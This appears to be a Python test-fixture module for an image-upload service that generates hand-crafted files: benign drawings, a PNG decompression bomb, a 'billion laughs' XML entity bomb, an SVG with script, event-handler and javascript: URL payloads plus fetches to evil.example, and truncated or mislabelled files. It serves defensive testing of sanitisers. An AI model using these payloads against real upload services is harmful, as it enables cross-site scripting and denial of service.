"""Files written by hand: drawings, documents, and what no encoder would make. `photos` offers them all."""

import struct
import zlib


def gif_of(frames: int, width: int, height: int) -> bytes:
    """A GIF of very many all-black frames, written by hand: some dozen bytes each, however large the frame is."""
    header = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"
    frame = (
        b"\x21\xf9\x04\0\x05\0\0\0" + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + _black_lzw(width * height)
    )
    return header + loop + frame * frames + b";"


def svg(width: int = 320, height: int = 200, *, colour: str = "#0a7d5a") -> bytes:
    """A drawing that no sanitiser has a reason to touch."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn -->\n'
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}" viewBox="0 0 {width} {height}">'
        f'<rect width="{width}" height="{height}" fill="#f4efe6"/>'
        f'<circle cx="{width / 2}" cy="{height / 2}" r="{height / 3}" fill="{colour}"/></svg>'
    ).encode()


def hostile_svg() -> bytes:
    """A drawing with every way to run code or to call home that we know of; without them it is a blue square."""
    return b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"
     onload="alert(1)"><script>alert(2)</script><script href="https://evil.example/x.js"/>
<style>@import url(https://evil.example/x.css); rect { background: url(https://evil.example/y.png) }</style>
<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(3)"/>
</foreignObject><a xlink:href="javascript:alert(4)" onclick="alert(5)">
<rect width="100" height="100" fill="#2040d0"/></a>
<image href="https://evil.example/z.png" width="5" height="5"/><use href="https://evil.example/s.svg#x"/>
<set attributeName="href" to="javascript:alert(6)"/></svg>"""


def entity_bomb_svg() -> bytes:
    """The billion laughs."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">{levels}]>'
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&l9;</text></svg>'
    ).encode()


def truncated(data: bytes, share: float) -> bytes:
    """The first part of a file, as a broken upload or a full card leaves it."""
    return data[: int(len(data) * share)]


def flood_png(side: int = 30_000) -> bytes:
    """A small file of one colour that unpacks to `side` x `side` pixels."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (side + 7) // 8)
    body = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n%%EOF\n"


def text_named_jpg() -> tuple[str, bytes]:
    """A name and content that do not fit together."""
    return "holiday.jpg", b"This was never a photograph.\n" * 20


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _black_lzw(pixels: int) -> bytes:
    """GIF image data of so many zeros: codes grow by one pixel each and the table is cleared when it is full."""
    bits, width, acc, count = 2, 3, 0, 0
    clear, end = 4, 5
    out = bytearray()

    def put(code: int) -> None:
        nonlocal acc, count
        acc |= code << count
        count += width
        while count >= 8:
            out.append(acc & 255)
            acc >>= 8
            count -= 8

    left = pixels
    while left > 0:
        put(clear)
        width, next_code, run = 3, 6, 1
        put(0)
        left -= 1
        while left > 0 and next_code < 4095:
            # Code 6 is two zeros, 7 three ...: each new code is used in the moment that it is made.
            run = min(run + 1, left)
            put(0 if run == 1 else run + 4)
            left -= run
            next_code += 1
            if next_code == (1 << width) and width < 12:
                width += 1
    put(end)
    if count:
        out.append(acc & 255)
    blocks = b"".join(bytes([len(out[i : i + 255])]) + out[i : i + 255] for i in range(0, len(out), 255))
    return bytes([bits]) + blocks + b"\0"
